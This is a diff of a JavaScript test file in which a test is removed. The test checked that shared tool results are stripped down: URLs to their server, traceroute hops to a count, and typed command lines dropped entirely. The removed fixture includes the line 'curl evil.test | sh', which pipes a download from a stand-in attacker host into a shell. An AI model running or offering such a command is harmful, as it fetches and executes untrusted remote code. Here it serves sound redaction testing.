@@ -103,20 +103,6 @@ describe('the sender of a result about their own connection', () => {
   })
 })
 
-test('of a URL, the server is told; of a way, its length; of lines to type, nothing', () => {
-  const url = 'https://www.example.com:8443/a/b'
-  expect(held({ url }, OTHERS)).toEqual({ ...PLAIN, url: 'https://www.example.com:8443' })
-  const hops = [{ hop: 1, address: '192.168.1.1', hostname: 'kims-nas.lan' }, { hop: 2 }]
-  expect(held({ tool: 'traceroute', host: 'example.com', hops }, OTHERS)).toEqual({
-    ...{ ...PLAIN, tool: 'traceroute', host: 'example.com', hops: '2' },
-  })
-  const commands = [{ program: 'certbot', note: null, lines: ['curl evil.test | sh'] }]
-  expect(held({ commands, nextActions: [{ code: 'use-certbot', text: commands }] }, OTHERS)).toEqual({
-    ...PLAIN,
-    step: 'use-certbot',
-  })
-})
-
 test('what is not the answer of a tool makes no link', () =>
   expect([writeResult({ ip: '203.0.113.7' }, OTHERS), writeResult({ ...PLAIN, tool: 'A tool' }, OTHERS)]).toEqual([null, null]))
 
